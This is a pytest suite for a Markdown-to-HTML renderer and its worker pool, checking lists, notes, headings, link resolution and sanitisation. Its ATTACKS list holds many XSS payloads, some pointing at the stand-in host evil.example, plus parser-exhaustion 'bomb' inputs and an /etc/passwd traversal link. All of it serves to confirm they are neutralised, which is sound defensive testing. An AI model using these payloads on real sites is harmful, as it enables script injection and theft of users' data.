"""Markdown becomes HTML that may be shown to anybody, in a process that may be killed."""

import re
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from search.articles.article import Article, parse_article
from search.articles.article_json import article_to_json
from search.building import spool
from search.index.document import document
from search.rendering.commonmark import CommonMark
from search.rendering.markdown import Page, Renderer
from search.rendering.pool import RenderError, RenderPool
from search.rendering.worker import answer
from search.sources.links import Site
from search.sources.markdown_flavour import Flavour

SITE = Site(
    {"sk/ucet/obnova.md": "sk/obnova-hesla", "sk/ucet/index.md": "sk/ucet", "en/reset.md": "en/obnova-hesla"},
    frozenset({"sk/ucet/menu 1.png", "sk/obr.jpg"}),
)


def shown(body: str, *, title: str = "Heslo", path: str = "sk/ucet/heslo.md", flavour: str = "commonmark") -> str:
    return Renderer(SITE).render(Page(path, "sk", title, body, flavour)).html


def in_mkdocs(body: str) -> str:
    return shown(body, flavour="python-markdown")


in_both = pytest.mark.parametrize("flavour", list(Flavour))


# What Markdown means


def test_steps_keep_their_numbers_across_pictures_and_notes() -> None:
    steps = "1. Otvorte menu\n\n   ![Menu](menu%201.png)\n\n   > Pozor.\n2. Kliknite\n   - raz\n   - dva\n3. Hotovo"
    html = shown(f"Postup:\n{steps}")

    assert html.count("<ol>") == 1
    assert re.findall(r"<li>\s*(?:<p>)?(\w+)", html) == ["Otvorte", "Kliknite", "raz", "dva", "Hotovo"]


@in_both
def test_code_in_a_step_stays_in_the_step(flavour: str) -> None:
    html = shown("1. Zadajte\n\n    ```bash\n    ping *ok.ru*\n      x\n    ```\n2. Počkajte", flavour=flavour)

    assert "<pre><code>ping *ok.ru*\n  x\n</code></pre>" in html
    assert html.count("<ol>") == 1


@in_both
def test_tables_fences_definitions_and_tasks_are_understood(flavour: str) -> None:
    assert '<th align="right">b</th>' in shown("|a|b|\n|-|-:|\n|1|2|", flavour=flavour)
    assert "<pre><code>*x*\n</code></pre>" in shown("```python\n*x*\n```", flavour=flavour)
    assert "<dt>Heslo</dt>" in shown("Heslo\n:   Tajné slovo", flavour=flavour)
    assert "<li>☐ a</li>\n<li>☑ b</li>" in shown("- [ ] a\n- [x] b", flavour=flavour)


@in_both
def test_footnotes_lead_there_and_back(flavour: str) -> None:
    html = shown("Text[^1].\n\n[^1]: Poznámka.", flavour=flavour)

    targets = re.findall(r'href="#([^"]+)"', html)
    assert len(targets) == 2
    assert sorted(targets) == sorted(re.findall(r'id="([^"]+)"', html))


def test_a_paragraph_line_that_starts_with_a_year_is_no_list() -> None:
    assert "<ol>" not in shown("Účet vznikol v roku\n2019. a platí dodnes.")


def test_html_ends_at_an_empty_line() -> None:
    html = shown(
        "<details><summary>Viac</summary>\n\n- **raz**\n\n</details>\n\n<table><tr><td>\n\n1. dva\n\n</td></tr></table>"
    )

    assert "<li><strong>raz</strong></li>" in html
    assert re.search(r"<td>\s*<ol>", html)


def test_words_and_addresses_of_mkdocs_extensions() -> None:
    assert in_mkdocs("~~a~~ ==b== :material-check: `==c==`") == "<p><del>a</del> <mark>b</mark>  <code>==c==</code></p>"
    assert '<a href="https://ok.ru/a"' in in_mkdocs("Pozrite https://ok.ru/a.")
    assert in_mkdocs("[x](https://ok.ru/a) <https://ok.ru/b>").count("<a ") == 2
    assert "<a " not in in_mkdocs("`https://ok.ru/a`")


def test_addresses_and_struck_words_are_as_on_github() -> None:
    assert '<a href="https://ok.ru/a"' in shown("Pozrite https://ok.ru/a.")
    assert "<s>x</s>" in shown("~~x~~")


# Notes, folded texts, tabs


@pytest.mark.parametrize(
    ("written", "flavour"),
    [
        ("> [!TIP]\n> - raz\n>   ```\n>   dva\n>   ```\n>\n> | a |\n> |---|\n> | b |", "commonmark"),
        (":::tip\n- raz\n  ```\n  dva\n  ```\n\n| a |\n|---|\n| b |\n:::", "commonmark"),
        (
            '!!! tip ""\n    - raz\n\n        ```\n        dva\n        ```\n\n    | a |\n    |---|\n    | b |',
            "python-markdown",
        ),
    ],
)
def test_a_note_holds_lists_code_and_tables(written: str, flavour: str) -> None:
    html = shown(f"{written}\n\nĎalej", flavour=flavour)

    note = html.partition('<div class="admonition tip">')[2].partition("</div>")[0]
    assert "<li>" in note
    assert "<pre><code>dva\n</code></pre>" in note
    assert "<td>b</td>" in note
    assert "Ďalej" not in note


def test_a_note_without_the_sign_of_a_quotation_is_a_note_all_the_same() -> None:
    html = shown("Prv.\n\n[!WARNING]\nPozor na *heslo*\n\n- [!TIP]\n  v zozname\n\nPotom [!NOTE] nie.\n\n[!Video x]\ny")

    assert '<div class="admonition warning">\n<p>Pozor na <em>heslo</em></p>\n</div>' in html
    assert '<div class="admonition tip">' in html
    assert "<p>Potom [!NOTE] nie.</p>" in html
    assert html.count("admonition") == 2


def test_notes_nest_and_stand_in_steps() -> None:
    html = shown("1. a\n\n   :::note Nadpis *x*\n   von\n\n   :::warning\n   dnu\n   :::\n   :::\n2. b")

    assert re.search(r'admonition note">\s*<p class="admonition-title">Nadpis <em>x</em></p>', html)
    assert html.index("admonition warning") < html.index("dnu")
    assert html.count("<li>") == 2
    assert ":::" not in html


@pytest.mark.parametrize("stray", [":::", "text\n:::", "- a\n:::", ":::unknown\ntext\n:::"])
def test_no_colons_are_left(stray: str) -> None:
    assert ":::" not in shown(stray)


def test_a_quotation_in_brackets_is_no_note() -> None:
    assert "<blockquote>" in shown("> [!Ahoj] svet")


def test_folded_texts_and_tabs_of_mkdocs() -> None:
    assert re.sub(r"\s", "", in_mkdocs('??? question "Prečo?"\n    Lebo.\n\n    Tak.')) == (
        "<details><summary>Prečo?</summary><p>Lebo.</p><p>Tak.</p></details>"
    )
    assert re.sub(r"\s", "", in_mkdocs('=== "Web"\n\n    a\n\n=== "Mobil"\n\n    b')) == (
        "<div><p><strong>Web</strong></p><p>a</p></div><div><p><strong>Mobil</strong></p><p>b</p></div>"
    )


def test_github_notes_are_read_in_mkdocs_too() -> None:
    assert re.search(r'admonition warning">\s*<p>Pozor</p>', in_mkdocs("> [!WARNING]\n> Pozor"))


def test_a_note_of_mkdocs_without_its_kind_is_a_note() -> None:
    page = in_mkdocs('!!! "Nové vo verzii 4"\n    Text')
    assert re.sub(r"\s", "", page) == (
        '<divclass="admonitionnote"><pclass="admonition-title">Novévoverzii4</p><p>Text</p></div>'
    )


def test_points_of_a_step_of_mkdocs_are_no_text_of_the_step() -> None:
    page = in_mkdocs("1. Skúste:\n   - prvé\n   - druhé\n2. Hotovo")
    assert re.sub(r"\s", "", page) == "<ol><li>Skúste:<ul><li>prvé</li><li>druhé</li></ul></li><li>Hotovo</li></ol>"


def test_two_notes_in_one_quotation_are_two_boxes() -> None:
    page = in_mkdocs("> [!NOTE]\n> Prvá\n>\n> [!WARNING]\n> Druhá")
    assert re.findall(r'admonition (\w+)">\s*<p>(\w+)', page) == [("note", "Prvá"), ("warning", "Druhá")]


def test_folded_texts_of_docusaurus() -> None:
    assert re.search(r"<details>\s*<summary>Viac</summary>\s*<p>x</p>", shown(":::details Viac\nx\n:::"))


# Headings


def test_no_heading_is_an_h1_because_the_title_is() -> None:
    assert re.findall(r"<(h\d)", shown("# Prvá\n\n## Druhá\n\n# Tretia")) == ["h2", "h3", "h2"]
    assert re.findall(r"<(h\d)", shown("### Hlboká\n\n#### Hlbšia")) == ["h2", "h3"]
    assert "h1" not in shown("Text <h1>cudzí</h1>")


def test_a_first_heading_that_repeats_the_title_is_left_out() -> None:
    assert shown("# <a name='x'></a>Heslo\n\nText").strip() == "<p>Text</p>"
    assert "<h2" in shown("Text\n\n# Heslo")


def test_headings_have_stable_anchors_of_their_own_names_or_the_editors() -> None:
    html = shown("## Čo robiť\n\n## Účet {#ucet .siroky}\n\n[nižšie](#ucet) <a name='stare'></a>")

    assert re.findall(r'id="([^"]+)"', html) == ["s-čo-robiť", "s-ucet", "s-stare"]
    assert 'href="#s-ucet"' in html


def test_equal_headings_are_numbered_as_their_system_does() -> None:
    assert re.findall(r'id="([^"]+)"', shown("## A & b\n## A & b\n## A & b")) == ["s-a--b", "s-a--b-1", "s-a--b-2"]
    assert re.findall(r'id="([^"]+)"', in_mkdocs("## A & b\n## A & b\n## A & b")) == ["s-a-b", "s-a-b_1", "s-a-b_2"]


# Links and pictures


@pytest.mark.parametrize(
    ("written", "leads_to"),
    [
        ("obnova.md", "/sk/a/obnova-hesla"),
        ("./obnova.md#krok-2", "/sk/a/obnova-hesla#s-krok-2"),
        ("obnova.html", "/sk/a/obnova-hesla"),
        ("obnova", "/sk/a/obnova-hesla"),
        ("../ucet/", "/sk/a/ucet"),
        ("/sk/ucet/obnova.md", "/sk/a/obnova-hesla"),
        ("../../en/reset.md", "/en/a/obnova-hesla"),
        ("obnova-hesla.md", "/sk/a/obnova-hesla"),
        ("/sk/a/obnova-hesla", "/sk/a/obnova-hesla"),
        ("/sk/contact", "/sk/contact"),
        ("https://ok.ru/x?a=1&amp;b=2", "https://ok.ru/x?a=1&amp;b=2"),
        ("mailto:pomoc@ok.ru", "mailto:pomoc@ok.ru"),
    ],
)
def test_links_lead_to_articles_wherever_they_lie(written: str, leads_to: str) -> None:
    assert f'<a href="{leads_to}"' in shown(f"[odkaz]({written})")


@pytest.mark.parametrize("written", ["nie-je.md", "../../../etc/passwd", "/reports", "http://[", "x.md?a=1"])
def test_a_link_that_leads_nowhere_is_only_its_text(written: str) -> None:
    html = shown(f"[odkaz]({written})")

    assert "odkaz" in html
    assert "href" not in html


LIKE_ELSEWHERE = Site(
    {
        "sk/_posts/2020-01-02-vitaj.md": "sk/vitaj",
        "sk/ucet/nove-heslo.mdx": "sk/nove-heslo",
        "sk/ucet/_index.md": "sk/ucet-index",
        "sk/a/rovnaky.md": "sk/a-rovnaky",
        "sk/b/rovnaky.md": "sk/b-rovnaky",
        "cs/vitaj.md": "cs/vitaj",
    },
    frozenset({"sk/static/img/menu.png"}),
    {"sk/ucet/nove-heslo.mdx": ["stare-heslo", "pomoc-heslo"]},
)


@pytest.mark.parametrize(
    ("written", "leads_to"),
    [
        ("[x](/article/nove-heslo/)", "/sk/a/nove-heslo"),
        ("[x](nove-heslo.html#krok)", "/sk/a/nove-heslo#s-krok"),
        ("[x](../NOVE-HESLO)", "/sk/a/nove-heslo"),
        ("[x](stare-heslo.md)", "/sk/a/nove-heslo"),
        ("[x](/Pomoc/Heslo/)", "/sk/a/nove-heslo"),
        ("[x](2020-01-02-vitaj)", "/sk/a/vitaj"),
        ("[x](/docs/ucet/)", "/sk/a/ucet-index"),
        ("[x](/x/b/rovnaky)", "/sk/a/b-rovnaky"),
        ("![x](/img/menu.png)", "/media/sk/static/img/menu.png"),
    ],
)
def test_addresses_of_other_systems_lead_to_the_article_that_is_meant(written: str, leads_to: str) -> None:
    assert f'"{leads_to}"' in Renderer(LIKE_ELSEWHERE).render(Page("sk/x.md", "sk", "x", written)).html


def test_a_name_that_several_articles_share_leads_nowhere() -> None:
    assert "href" not in Renderer(LIKE_ELSEWHERE).render(Page("sk/x.md", "sk", "x", "[x](/z/rovnaky)")).html


def test_every_link_that_was_looked_up_is_remembered_with_what_it_led_to() -> None:
    rendered = Renderer(SITE).render(Page("sk/ucet/heslo.md", "sk", "x", "[a](obnova.md) [b](nie.md) ![c](../obr.jpg)"))

    assert rendered.links == {
        "sk/ucet/obnova.md": "/sk/a/obnova-hesla",
        "sk/ucet/nie.md": "",
        "sk/obr.jpg": "/media/sk/obr.jpg",
    }


def test_links_away_do_not_hand_over_the_window() -> None:
    assert 'rel="noopener noreferrer"' in shown("[x](https://ok.ru)")


def test_own_pictures_are_shown() -> None:
    html = shown("![Menu](menu%201.png)")

    assert 'src="/media/sk/ucet/menu%201.png"' in html
    assert 'alt="Menu"' in html


@pytest.mark.parametrize("source", ["https://evil.example/pixel.gif", "//evil.example/pixel.gif"])
def test_a_picture_from_elsewhere_is_a_link_because_it_would_count_readers(source: str) -> None:
    assert "<img" not in shown(f"![Obrázok]({source})")
    assert '<a href="https://evil.example/pixel.gif" rel="noopener noreferrer">Obrázok</a>' in shown(
        f"![Obrázok]({source})"
    )
    assert shown(f"[![Obrázok]({source})](obnova.md)").count("<a ") == 1


@pytest.mark.parametrize("source", ["nie-je.png", "data:image/png;base64,AAAA", "../../tajne.png", "obr.svg"])
def test_a_picture_that_is_not_there_is_its_description(source: str) -> None:
    assert shown(f"![a <b> & c]({source})").strip() == "<p>a &lt;b&gt; &amp; c</p>"


# What must never arrive

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=x onclick=alert(1) target=_top>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/p.gif" onload="alert(1))',
    '![x" onload="alert(1)](obr.jpg)',
    '![x](obr.jpg "t\\" onload=\\"alert(1)")',
    "<javascript:alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "```\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '# x {#"onmouseover=alert(1)}',
    "# <img src=x onerror=alert(1)>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! onload=alert(1) "x"\n    x',
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio autoplay src=//evil.example/a.mp3>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div id=contact-form name=x class='btn hidden'>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<p lang='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title='<img src=\"/x\" onerror=alert(1)>'>x</p>",
    "<img alt='<img src=/x onerror=alert(1)>' src=https://evil.example/x.gif>",
    "<a title='</a><img src=x onerror=alert(1)>' href=obnova.md>x</a>",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 <b onclick=alert(1)>x</b>",
]
TAG = re.compile(r"<(?P<name>[a-z][a-z0-9]*)(?P<attributes>(?: [\w-]+=\"[^\"]*\")*)>|</[a-z][a-z0-9]*>")
HARMLESS = {
    "value",
    "href",
    "src",
    "alt",
    "title",
    "id",
    "class",
    "rel",
    "lang",
    "dir",
    "align",
    "loading",
    "start",
    "open",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_and_nothing_from_elsewhere_arrives(attack: str) -> None:
    for body in (attack, f"- {attack}", f"> {attack}", f"text {attack} text"):
        html = shown(body)
        for tag in TAG.finditer(html):
            name, attributes = tag["name"], dict(re.findall(r' ([\w-]+)="([^"]*)"', tag["attributes"] or ""))
            assert name not in {"script", "style", "iframe", "svg", "form", "input", "object", "embed", "base", "meta"}
            assert set(attributes) <= HARMLESS, html
            assert re.match(r"https?:|mailto:|tel:|/|#|$", attributes.get("href", "")), html
            assert name != "img" or attributes["src"].startswith("/media/"), html
            assert attributes.get("id", "s-").startswith("s-")
        assert not re.search(r"<(?!/?[a-z])", html), f"every < that is no tag is escaped: {html}"


@given(st.text(st.sampled_from("<>\"'=/()[]!#`*_:;&\n ax-|~{}\\"), max_size=120))
def test_whatever_is_typed_the_result_is_well_formed(body: str) -> None:
    rest = TAG.sub("", shown(body))

    assert "<" not in rest


# The process that may be killed


@pytest.fixture(scope="module")
def pool() -> Iterator[RenderPool]:
    with RenderPool(SITE, processes=2) as pool:
        yield pool


def article(body: str) -> Article:
    head = "title: Heslo\nmarkdown: python-markdown"
    return parse_article(f"---\n{head}\n---\n{body}".encode(), "sk/heslo.md").article


BOMBS = ("[" * 20_000, "[a](" * 5_000)  # for Python-Markdown


@pytest.mark.long
def test_articles_that_never_end_are_stopped_and_the_others_are_laid_out(pool: RenderPool) -> None:
    started = time.monotonic()

    answers = list(pool.render_all([article("Prvý"), *map(article, BOMBS), article("Posledný")]))

    assert [a.code if isinstance(a, RenderError) else a.html for a in answers] == [
        "<p>Prvý</p>",
        *["render-timeout"] * len(BOMBS),
        "<p>Posledný</p>",
    ]
    assert time.monotonic() - started < 120  # on a busy machine, too


@pytest.mark.long
def test_lists_inside_lists_without_end_are_an_error_of_that_article(pool: RenderPool) -> None:
    nested = "\n".join("    " * depth + "- a" for depth in range(300))

    with pytest.raises(RenderError) as caught:
        pool.render(article(nested))

    assert caught.value.code in {"render-failed", "render-timeout"}  # too deep, or on a slow machine too slow
    assert pool.render(article("Ďalší")).html == "<p>Ďalší</p>"


@pytest.mark.long
@pytest.mark.parametrize("bomb", ["[" * 20_000, ">" * 5_000, ":::note\n" * 5_000, "# a\n" * 20_000, "<div>\n" * 20_000])
def test_what_is_too_deep_for_commonmark_is_an_error_soon(bomb: str) -> None:
    started = time.process_time()

    with suppress(RecursionError):
        shown(bomb)

    assert time.process_time() - started < 20


@pytest.mark.long
@pytest.mark.parametrize(
    "begun",
    [
        "- <b>\n",
        "<b>a\n\n",
        "- <b title='c'><i>\n",
        "<ul><li>\n\n",
        "a<dl>\n\n",
        "# a<b>\n",
        "::: tip\n",
        ":::tip a\nb\n",
    ],
)
def test_blocks_and_tags_that_nothing_ends_take_time_in_proportion(begun: str) -> None:
    started = time.process_time()

    with suppress(RecursionError):
        shown(begun * (200_000 // len(begun)))

    assert time.process_time() - started < 5  # the slow ones took up to 20


def test_a_tag_that_stands_open_hundreds_of_times_is_taken_out_and_its_text_stays() -> None:
    assert shown("- <b>a\n" * 300 + "\n`<b>` <i>c</i>").endswith("<p><code>&lt;b&gt;</code> <i>c</i></p>")
    assert shown("- <b>a\n" * 300) == shown("- a\n" * 300)
    assert shown("- <b>a</b><br>\n" * 300).count("<b>") == 300


def test_containers_end_where_they_are_meant_to_however_they_nest() -> None:
    listed = "- :::note B\n  c\n- d\n  :::note E\n  f\n  :::"
    html = shown(f"::::tip A\n\n{listed}\n\n:::warning G\n```\n:::\n```\n:::\n\nh\n\n::::\n\ni")

    assert re.findall(r"tip|note|warning|[A-Gc-i](?=[<\n])", html) == [
        *("tip", "A", "note", "B", "c", "d", "note", "E", "f", "warning", "G", "h", "i")
    ]
    assert html.endswith("<p>h</p>\n</div>\n<p>i</p>")
    assert html.count(":::") == 1  # the code


def test_what_nests_too_deep_or_needs_too_much_memory_is_said_in_words(monkeypatch: pytest.MonkeyPatch) -> None:
    for error, words in ((RecursionError, "nested too deep"), (MemoryError, "too much memory")):
        monkeypatch.setattr(Renderer, "render", _raising(error))

        assert words in str(
            answer(Renderer(SITE), article_to_json(article("x")), lambda _, rendered: rendered)["failed"]
        )


def _raising(error: type[Exception]) -> Callable[[Renderer, Page], None]:
    def render(_renderer: Renderer, _page: Page) -> None:
        raise error

    return render


def test_a_worker_that_dies_is_replaced(pool: RenderPool) -> None:
    pool.render(article("Prvý"))
    for worker in (workers := [pool._idle.get() for _ in range(pool._idle.qsize())]):
        worker._process._process.kill()
        worker._process._process.wait()
    for worker in workers:
        pool._idle.put(worker)

    answers = list(pool.render_all([article("x")] * (len(workers) + 1)))

    assert [a.html for a in answers if not isinstance(a, RenderError)] == ["<p>x</p>"] * len(answers)


def test_a_worker_can_spool_what_the_index_is_given(tmp_path: Path) -> None:
    with RenderPool(SITE, spool=tmp_path, processes=1) as pool:
        first, second = (pool.render(article(f"Otvorte **{words}**.")) for words in ("nastavenia", "účet"))

    for rendered, words in ((first, "nastavenia"), (second, "účet")):
        assert rendered.spooled
        name, start, length = rendered.spooled
        with Path(name).open("rb") as file:
            spooled = spool.read(file, start, length)
        laid_out = f"<p>Otvorte <strong>{words}</strong>.</p>"
        assert (rendered.html, spooled) == ("", document(article(f"Otvorte **{words}**."), laid_out))


@pytest.mark.parametrize(
    "address",
    [
        "heslo.md",
        "../sk/heslo#ako-na-to",
        "https://x.example/a/B_c.d-e",
        "https://x.example",
        "http://X.y/ž",
        "a?b=c d",
    ],
)
def test_an_address_is_written_as_the_parser_of_the_package_writes_it(address: str) -> None:
    (link,) = CommonMark()._parser.parseInline(f"[x](<{address}>)", {"title": ""})[0].children[:1]
    assert link.attrs["href"] == MarkdownIt().normalizeLink(address)


def test_many_articles_come_back_in_their_order(pool: RenderPool) -> None:
    answers = pool.render_all([article(f"Článok {number}") for number in range(200)])

    assert [a.html for a in answers if not isinstance(a, RenderError)] == [f"<p>Článok {n}</p>" for n in range(200)]


@pytest.mark.parametrize("word", ["domain", "path", "text", "list", "set", "title", "select", "textarea", "xmp"])
def test_a_word_in_angle_brackets_takes_no_text_with_it(word: str) -> None:
    html = Renderer(Site({})).render(Page("a.md", "en", "A", f"Set <{word}> to **yours**. More.\n\nNext.")).html

    assert "to <strong>yours</strong>. More." in html
    assert "<p>Next.</p>" in html
    assert f"<{word}" not in html


def test_drawings_and_formulas_still_vanish_whole() -> None:
    html = Renderer(Site({})).render(Page("a.md", "en", "A", "<svg><title>x</title><text>y</text></svg>z")).html

    assert html == "<p>z</p>"
